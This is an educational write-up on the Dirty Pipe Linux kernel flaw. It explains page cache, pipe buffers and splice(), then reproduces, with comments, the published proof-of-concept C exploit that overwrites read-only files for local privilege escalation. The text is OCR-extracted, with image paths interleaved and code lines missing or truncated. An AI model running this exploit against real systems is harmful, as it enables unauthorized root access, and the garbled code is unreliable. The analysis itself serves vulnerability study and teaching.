‘Dirty Pipe’ is a vulnerability and exploit, discovered by Max Kellermen, that allows for local privilege escalation on Linux Kernels.  This will get very technical and a basic understanding of various concepts will be required to fully grasp the attack.  A brief introduction to these concepts will be given and links to more exhaustive explanations will be referenced at the end of the paper.

What is Dirty Pipe?

‘Dirty Pipe’ is a Linux kernel exploit that allows anunprivileged user to write to read-only files.  This ability allows for trivial privilege escalation by overwriting the ‘shadow’ or ‘passwd’ files, or by modifying SUID binaries that are run as root by default.

What vulnerability does Dirty Pipe exploit?

Dirty pipe abuses a flaw inside of an optimization feature in the linux kernel that allows data to be efficiently copied to and from pipes; and since this mishandling occurs entirely in kernel space, actionsperformed by the exploit skip all of the operating system’s access control checks.

Concept introduction

  • Pages:  Whilst the smallest addressable unit of memory by the CPU is 1 byte, the actual allocation of memory by the OS must be done in chunks called pages which are typically 4kB in size.  Once allocated these pages can then be addressed at the byte level.
  • Page cache:  An area of unused memory managed by the kernel to reduce file access latency.  When a file is read by a program the kernel first loads the contents of that file page by page, into a subsystem called the ‘page cache’;  where it is stored and subsequently copied into the program’s user space memory to be accessed directly.  Future read/write operations, by any process, to a file already stored in the page cache, will be given or applied directly to / from the copy in memory; this saves time and bandwidth by avoiding the expensive round trip to disk.  Programmers can circumvent this by explicitly opening files with the O_DIRECT or O_SYNC flags; however, for performance reasons, file operations are typically applied straight to the copy in memory.   Files stored in the cache whose contents differ from the copy in storage, are marked as ‘dirty’ and will be synchronised with the disk once the memory is reclaimed by the kernel.
  • Pipes and pipe buffers:  A pipe is a data channel allowing one-way inter-process communication.  Since pipes are unidirectional they have a ‘read’ and ‘write’ end, represented by two separate file descriptors.  Data inside the pipe is stored insideof a FIFO data structure called a ring buffer.  –  This can be visualised as a collection of mini buffers, each referring to a page.  Since data can be written to, and read from the pipe independently, two indexes are required to keep track of which buffer a process will read and write to/from.  This is explained in the following video:

However, the key takeaways are that the ‘tail’ index keeps track of which buffer to read from and the ‘head’ index tracks which buffer to write to.  Both indexes start at 0 and each subsequent write will increment the head pointer and each read will increment the tail pointer.  If the two pointers are equal then this means that the pipe is either empty or is being overflowed.  The buffers themselves do not represent contiguous blocks of memory.

Pipe buffers

File Descriptors

You are probably familiar with theuniversal file descriptors 0 (stdin) 1 (stdout) and 2 (stderr) and indeed file descriptors are just indexes (integers) in a processes file descriptor table.  Each process has its own PCB (Process Control Block) which is a data structure containing the contextual information for that process including fields like PID,process status, priority etc.  One of the fields in the PCB is an array of ‘file descriptor’ type.  Think of an array of integers, however, this array contains a special data type which helps the process keep track of its resources.  The array itself is called the ‘File Descriptor Table’ which contains pointers to the resources used by the process.  All processes have their own FDT and the entries are essentially used as handles to access data streams to and from each resource.  Resources represented by file descriptors include files, pipes, sockets and even devices.  For instance, to write to ‘OpenFile1’ we would use the open() function to create a file descriptor pointing to our file and then pass that file descriptor as a handle to our write() function.  Notice from the code and diagram below that our file descriptor is simply an integer representing an index in the FDT.

Code within a file descriptor

Because all processes are automatically initialised with three file descriptors by default:  stdin, stdout and stderr (0, 1 and 2 respectively) our newly created file descriptor is given the value of 3 as shown in the console output above.

As previously mentioned, when dealing with pipes, two file descriptors are necessary.  This is why when initialising a new pipe in C with the pipe() function, we pass in an array of two uninitialised integers, which will be set accordingly to the index of the next available entries in the FDT and will represent the read and write data channels to our pipe.

Linux Kernel performance optimisations:  As a side note, the page cache subsystem operates entirely in kernel space whilst processes running on the OS will be run in user space memory.  User space processes can not directly interact with data stored in kernel space.

In order for a program to modify file data, it must first be read from the disk into the page cache (kernel space memory) and then copied intothe program’s address space where it can be modified and then copied back to the page cache to be written to disk.  This involves two transfers between the user-kernel space boundary; a limitation that becomes even more apparent when moving data.  Consider a program whose function is to retrieve data from a local file and send it over the network, through a socket, to another device (think web-servers, SCP, FTP etc).  Initially, the data will be read by the program into a buffer, which involves a trip from kernel->user space.  It will then immediately be written into the file descriptor associated withthe relevant socket which incurs another trip from user space ->kernel space.  In this example, the program doesn’t even apply any processing to the data so it seems unnecessary to have to move it into the program’s user space memory and back again.  It would be much more efficient if the two endpoints could be connected directly.  Since programs running on the OS can’t interact with kernel space memory, linux provides multiple system calls that allow for the direct transmission of data between two file descriptors entirely in kernel space.
Sendfile() for instance, is able to send data straight from a file into a socket or even another file on newer kernel versions, without copying between user and kernel address space.

The function takes:

  • An Input and Output File Descriptor.
  • A Byte Offset -> Which specifies theposition inside the file from which data should be read.
  • A Count.  ->  Specifies the number of bytes to read.

Similarly, splice(), another system call, allows for the transmission of data between any two file descriptors so long as one of them is a pipe.  This function is the primary culprit of the exploit.

How does Splice() work ?  –  Whilst splice can facilitate data transfer between any combination of file descriptors, (with one of them being a pipe), this exploit uses splice() exclusively, to copy from a FILE → PIPE – So in describing how the system call works I will focus on this particular usage.
Without splice we know that the traditional flow of data would be:  Kernel->User->Kernel – since the data has to be copied from the cache (kernel) -> Programs address space (user) -> Pipe (Kernel).  Removing the need to proxy the data through the program’s virtual address space, we go from having to make two-copies, to one copy; straight from the page cache and into the pipe, both of which reside in kernel space.  However, splice goes one step further and actually implements a ‘zero-copy’ transfer by passing a reference to the page holding the file, into the pipe; rather than making a physical copy of the data itself.  This makes sense since a copy of the data is already present in kernel space so making another one is inefficient.

As we know pipes are composed of acollection of pipe buffers each of which represents a page.  The first write to a pipe allocates a new page in memory which is then assigned to the buffer.  The buffer then stores the data inside this page.  Each buffer also has a selection of flags associated with it and if the initial write to any buffer does not fill the entirety of the page the ‘pipe_buff_can_merge’ flag will be set allowing subsequent writes to be appended to that buffer.  This is intended to be an optimisation feature to reduce unusable sections of memory.  If the data to be written can’t be merged into the current buffer (due to the pipe_buff_can_merge flag not being set, or due to it being too large) a new pipe buffer will be generated and added to the ring (incrementing the head index) and a new page requested and allocated to that buffer where the data will be written.
To illustrate the inner workings of the pipe buffer programmatically we can view the members of struct pipe_buffer in ‘pipe_fs_i.h’ located at:

—Snipped for clarity—-
struct pipe_buffer {
struct page * page;
unsigned int offset;
unsigned int len;
const struct pipe_buf_operations * ops;unsigned int flags;
unsigned long private;

If you are not familiar with structs, think of them as objects in OOP, with the members (variables) representing attributes of that object.

Here we can see that each pipe buffer contains a pointer to a page and an int representing the flags that are set on the buffer.  Ordinarily, when a process writes to a pipe anew pipe buffer will be created by requesting a new page and assigning the buffer a pointer to that page.  This is done by updating the ‘struct page * page’ member.  The pipe_buffer struct also has an ‘offset’ and ‘len’ member which specifies the offset inside the page from which to read data from and the length of data to read from the offset.   So now we can visualise the pipe data structure as shown in the following diagram:

At this point you might be able to intuit part of the exploit.  When a file is spliced into a pipe; rather than copying the data from the page cache into a separate page owned by the pipe, the page that the pipe buffer refers to is simply updated to reference the page cache’s page containing the data.  This is of course done by creating a new pipe buffer and assigning ‘struct page * page’ to the address of the page inside the page cache instead of having the pipe request an entirely new page from the kernel.

So the pipe buffer now refers to a page inside the page cache rather than a page created by the pipe itself.  This becomes particularly dangerous if the ‘pipe_buff_can_merge’ flag is set because subsequent writes to the pipe will now be appended to the page in the page cache which is a representation of the file on the disk – and as we know, any process that requests a file already stored in the page cache WILL receive the copy stored in the page cache as if it were the actual file.  Furthermore, modifications to the page made through the pipe will not trigger the page to be marked as ‘dirty’ and since we have only modified the cached data, no traces will be left on the disk for the time being, nor will they be synchronised back to the disk unless another program happens to ‘dirty’ the page.  Splice() also includes an argument ‘off_in’ which specifies the offset in bytes from which to read data from the file.Typically the whole file will be loaded into the page cache occupying multiple pages and the page that the offset lands in is assigned to the pipe buffer.
Now we just need to prepare the pipe, in such a way, so as to have the PIPE_BUFF_CAN_MERGE flag set prior to splicing data into the buffer.  Since the splice() function itself does not implement any flag initialisation this will leave our page vulnerable to unauthorised writing through the pipe.

Inspecting the kernel source code, the function responsible for writing data to a pipe is pipe_wite() which can be found in the ‘pipe.c’ file located in /fs/pipe.c if your OS includes source code files.

buf = &pipe->bufs[head & mask];
buf->page = page;
buf->ops = &anon_pipe_buf_ops;
buf->offset = 0;
buf->len = 0;
if (is_packetized(filp))
buf->flags =PIPE_BUF_FLAG_PACKET;

Pipe_write() will always try to set the PIPE_BUFF_CAN_MERGE flag if the most recent write does not fill the buffer.  If data can not fit in the buffer it will be written to a new one which will also have its flag set if any space remains after the write.  Knowing this we can have the PIPE_BUFF_CAN_MERGE flag set on all buffers in the pipe by writing data to the first buffer that is small enough not to overflow it (forcing its flag to be set) and then forging all subsequent writes with data that is too large to append to the current buffer but small enough not to fill the newly generated buffer (leaving its flag set).
The pipe_read() function will read data from the pipe, emptying the buffer in the process.
Once a buffer is depleted its page is released, however, its flags are not cleared.  Thus, we can use pipe_write() and pipe_read() calls to create a pipe with unassigned buffers and have the can_merge flag set on all ringentries.  We can then use splice() to assign a page from the page cache, containing a file of our choosing, to the pipe buffer and trick the kernel into allowing us to append to this page even though it is owned by the page cache and not the pipe.  The limitations of this exploit are:

  • The user must have read permissions in order to splice the file.
  • The offset passed to splice() – which specifies the entry point in the file where our overwrite should begin – must not land on a page boundary.
  • The overwrite itself must not cross over a page boundary.  It CAN actually cross the boundary however, there will be 1-byte of uneditable intermittent data.  This is because 1-byte of data, for each page, must be spliced into the pipe from the target page prior to our entry point.  If the overwrite extends over another page, a single byte from the new page must also be spliced.  This would also require running multiple instances of the exploit.  (1 for each page).
  • The file can not be overwritten beyond its original size.

The exploit will perform the following actions; which can also be observed in the code below.  (The exact code published by Max Kellermen who first discovered the vulnerability.  I highly recommend reading his article ).  I’ve added some additional comments to better explain what the exploit is doing.
In summary:

  • A pipe is generated and its bufferspopulated with arbitrary data to set all PIPE_BUFF_CAN_MERGE flags.
  • The pipe is drained by callingpipe_read() which fails to reinitialise the flags.  pipe_read() is automatically invoked when passing a pipe referencing file descriptor to read()
  • A single byte from the file which marks the position from which we want to overwrite data is spliced into the pipe.
  • The exploit will then call pipe_write() – invoked by write() –  toappend data to the page cache’s copy of the file on disk.

#define _GNU_SOURCE
#include <unistd.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/user.h>
#ifndef PAGE_SIZE
#define PAGE_SIZE 4096
* Create a pipe where all "bufs" on the pipe_inode_info ring have the
static void prepare_pipe(int p[2]) {
if (pipe(p)) abort(); // Pipe() returns 0 if the pipe was created successfully
// and -1 for errors. The pipe() function also modifies our array
// to include the read and write file descriptor indexes for our pipe.

const unsigned pipe_size = fcntl(p[1], F_GETPIPE_SZ); // Returns the max capacity of the pipe.
static char buffer[4096]; // Defines our buffer size.
// The amount of data we will be writing/reading to/from the pipe
// for any one operation.

// fill the pipe completely; each pipe_buffer will now have the
for (unsigned r = pipe_size; r > 0;) {
// r = The total size of the pipe
unsigned n = r > sizeof(buffer) ? sizeof(buffer) : r;
// ^^n = size of buffer if r > the buffer, otherwise n = r
write(p[1], buffer, n);
r -= n;// drain the pipe, freeing all pipe_buffer instances (but leaving
// the flags initialized)
for (unsigned r = pipe_size; r > 0;) {
unsigned n = r > sizeof(buffer) ? sizeof(buffer) : r;
read(p[0], buffer, n);
r -= n;
// the pipe is now empty, and if somebody adds a new pipe_buffer
// without initializing its "flags", the buffer will be mergeable

int main(int argc, char **argv) {
if (argc != 4) {
fprintf(stderr, "Usage: %s TARGETFILE OFFSET DATA\n", argv[0]);
} // dumb command-line argument parser

const char *const path = argv[1];
// The variable named 'path' is a constant-pointer (unchangeable)
// to an unchangeable char.
loff_t offset = strtoul(argv[2], NULL, 0);
const char *const data = argv[3];const size_t data_size = strlen(data); // Size of the data to write to file.

if (offset % PAGE_SIZE == 0) {
fprintf(stderr, "Sorry, cannot start writing at a page boundary
// Checks that the offset does not fall
// on a page boundary.

const loff_t next_page = (offset | (PAGE_SIZE - 1)) + 1;
const loff_t end_offset = offset + (loff_t)data_size;

if (end_offset > next_page) {
fprintf(stderr, "Sorry, cannot write across a page boundary
// Checks that writing our data won't cross-over
// a page boundary.

// open the input file and validate the specified offset.
const int fd = open(path, O_RDONLY); // yes, read-only! :-)

if (fd < 0) {
perror("open failed");

struct stat st;

if (fstat(fd, &st)) {perror("stat failed");

if (offset > st.st_size) {
fprintf(stderr, "Offset is not inside the file

if (end_offset > st.st_size) {
fprintf(stderr, "Sorry, cannot enlarge the file

// create the pipe with all flags initialized with PIPE_BUF_FLAG_CAN_MERGE
int p[2];

// splice one byte from before the specified offset into the pipe;
// this will add a reference to the page cache, but since
// copy_page_to_iter_pipe() does not initialize the "flags",// PIPE_BUF_FLAG_CAN_MERGE is still set
ssize_t nbytes = splice(fd, &offset, p[1], NULL, 1, 0);

if (nbytes < 0) {
perror("splice failed");

if (nbytes == 0) {
fprintf(stderr, "short splice

// the following write will not create a new pipe_buffer,
// but will instead write into the page cache, because of
nbytes = write(p[1], data, data_size);

if (nbytes< 0) {
perror("write failed");

if ((size_t)nbytes < data_size) {
